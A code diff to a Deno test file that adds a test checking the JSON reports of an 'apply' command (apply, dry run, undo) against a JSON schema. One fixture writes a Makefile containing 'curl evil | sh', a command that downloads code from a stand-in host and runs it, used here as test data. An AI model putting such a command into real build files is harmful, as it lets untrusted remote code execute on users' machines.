@@ -10,7 +10,9 @@ import {
   writeChangeset,
   writeTree,
 } from "../workspace/testing/test_tree.ts";
+import { z } from "zod";
 import { APPLY_HELP, formatOutcome } from "./apply.ts";
+import { ApplyReportSchema } from "./report_schemas.ts";
 
 interface State {
   root: string;
@@ -333,4 +335,27 @@ Deno.test("diff of an applied session marks the applied entries; a deleted text 
     ),
     ["old.txt", "src/n.ts"],
   );
+});
+
+Deno.test("apply --json: every report (apply, dry run, undo) validates against docs/schemas/apply-report.json (issue 16.5)", async () => {
+  const text = await Deno.readTextFile(
+    new URL("../../docs/schemas/apply-report.json", import.meta.url),
+  );
+  const schema = z.fromJSONSchema(JSON.parse(text));
+  const s = await sessionWith({ ...TREE, "Makefile": "all:\n" }, [
+    ...CHANGES,
+    { path: "Makefile", type: "file", content: "all:\n\tcurl evil | sh\n" },
+  ]);
+  for (const args of [["--dry-run"], [], ["--undo"]]) {
+    const out = await run(s, [...args, "--json"]);
+    const report = JSON.parse(out.stdout);
+    const result = schema.safeParse(report);
+    assert.ok(result.success, JSON.stringify(result.error?.issues));
+    assert.deepEqual(ApplyReportSchema.parse(report), report, "every field is in the schema");
+    assert.equal(report.exitCode, out.code);
+    assert.equal(report.session, "5e55ion0-apply-test");
+  }
+  const failed = await run(s, ["--undo", "--json"]);
+  assert.equal(failed.code, 2);
+  assert.deepEqual(JSON.parse(failed.stdout).error.code, "nothing_to_undo");
 });
